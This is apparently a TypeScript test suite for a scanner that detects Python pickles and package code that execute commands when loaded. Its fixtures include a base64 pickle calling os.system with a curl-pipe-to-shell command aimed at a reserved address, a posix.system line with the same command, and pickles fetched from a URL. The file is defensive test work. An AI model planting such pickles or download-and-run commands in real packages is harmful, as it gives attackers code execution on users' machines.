// Unpickling as code: an embedded pickle (a literal or decoded from base64) is read without running it and judged by
// the calls it makes; a pickle downloaded and loaded is download-and-execute; a data pickle or one of the package's
// own classes stays low. Inert: the pickles name reserved addresses and are never unpickled.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyseFiles } from './in-memory-target.ts';

/** pickle.dumps(protocol 4) of a reduce to os.system("curl http://192.0.2.5/x.sh | sh"). */
const SYSTEM_PICKLE = 'gASVOgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjB9jdXJsIGh0dHA6Ly8xOTIuMC4yLjUveC5zaCB8IHNolIWUUpQu';

const findings = (report: Awaited<ReturnType<typeof analyseFiles>>) =>
  report.files.flatMap((file) => file.findings.map((f) => ({ ...f, path: file.path })));

test('a base64 pickle that calls os.system, loaded on import, is critical and its command is analysed', async () => {
  const report = await analyseFiles(
    {
      'demo_pkg/__init__.py': `import pickle, base64\n_state = pickle.loads(base64.b64decode("${SYSTEM_PICKLE}"))\n`,
    },
    { name: 'demo-pkg', version: '1.0' },
  );
  assert.equal(report.risk, 'critical', report.reasons.join(' | '));
  const unpickled = findings(report).find((f) => f.rule === 'unpickled-code');
  assert.equal(unpickled?.severity, 'critical');
  assert.deepEqual(unpickled?.decoded?.chain, ['base64', 'pickle']);
  assert.match(unpickled!.message, /reaches os\.system/);
  const command = findings(report).find(
    (f) => f.path === 'demo_pkg/__init__.py#decoded-1' && f.rule === 'download-execute',
  );
  assert.equal(command?.trigger, 'import', 'the pickled command runs when the module is imported');
});

test('a protocol 0 pickle written as a bytes literal, loaded when called, is high', async () => {
  const report = await analyseFiles({
    'tool.py': 'import pickle\ndef load():\n    return pickle.loads(b"csubprocess\\ngetoutput\\n(S\'id\'\\ntR.")\n',
  });
  const unpickled = findings(report).find((f) => f.rule === 'unpickled-code');
  assert.equal(unpickled?.severity, 'high');
  assert.match(unpickled!.message, /reaches subprocess\.getoutput/);
});

test("a data pickle and a pickle of the package's own class are not programs", async () => {
  const report = await analyseFiles({
    'tests/test_compat.py':
      'import pickle\nOLD = b"\\x80\\x02cdemo_pkg.model\\nModel\\nq\\x00)\\x81q\\x01}q\\x02X\\x01\\x00\\x00\\x00aq\\x03K\\x01sb."\nDATA = pickle.loads(b"\\x80\\x02]q\\x00(K\\x01K\\x02e.")\ndef test_old():\n    assert pickle.loads(OLD).a == 1\n',
  });
  const unpickled = findings(report).filter((f) => f.rule === 'unpickled-code');
  assert.deepEqual(
    unpickled.map((f) => [f.severity, f.message]),
    [['low', 'pickle.loads() loads an embedded pickle that calls demo_pkg.model.Model']],
  );
  assert.equal(report.risk, 'low');
});

test('a pickle downloaded and unpickled is download-and-execute; when only called and the URL is given, medium', async () => {
  const onImport = await analyseFiles({
    'demo_pkg/__init__.py':
      'import pickle, urllib.request\n_cfg = pickle.loads(urllib.request.urlopen("https://cdn.example/m.bin").read())\n',
  });
  assert.equal(findings(onImport).find((f) => f.rule === 'download-execute')?.severity, 'critical');
  const called = await analyseFiles({
    'demo_pkg/cache.py':
      'import pickle, requests\ndef fetch(url):\n    return pickle.loads(requests.get(url).content)\n',
  });
  assert.equal(findings(called).find((f) => f.rule === 'download-execute')?.severity, 'medium');
});

test('os functions reached through posix or nt, the modules os is built on, are os functions', async () => {
  const report = await analyseFiles({
    'demo_pkg/__init__.py': 'import posix\nposix.system("curl http://192.0.2.5/x.sh | sh")\n',
  });
  assert.ok(findings(report).some((f) => f.rule === 'download-execute' && f.severity === 'critical'));
});

test('a shipped pickle (by name or by its first bytes) that reaches os.system is high; a data pickle is quiet', async () => {
  const report = await analyseFiles(
    {
      'demo_pkg/__init__.py': 'VERSION = "1.0"\n',
      'demo_pkg/model.pkl': Buffer.from(SYSTEM_PICKLE, 'base64'),
      'demo_pkg/weights.bin': Buffer.from(SYSTEM_PICKLE, 'base64'),
      'demo_pkg/table.pickle': Buffer.from('gAJdcQAoSwFLAmUu', 'base64'),
    },
    { name: 'demo-pkg', version: '1.0' },
  );
  const unpickled = findings(report).filter((f) => f.rule === 'unpickled-code');
  assert.deepEqual(
    unpickled.map((f) => [f.path, f.severity, f.trigger]),
    [
      ['demo_pkg/model.pkl', 'high', 'call'],
      ['demo_pkg/weights.bin', 'high', 'call'],
    ],
  );
  const command = findings(report).find((f) => f.path === 'demo_pkg/model.pkl#decoded-1');
  assert.equal(command?.rule, 'download-execute');
  assert.equal(command?.trigger, 'call', 'it runs when someone loads the pickle');
  assert.ok(report.risk === 'high' || report.risk === 'critical', report.reasons.join(' | '));
});
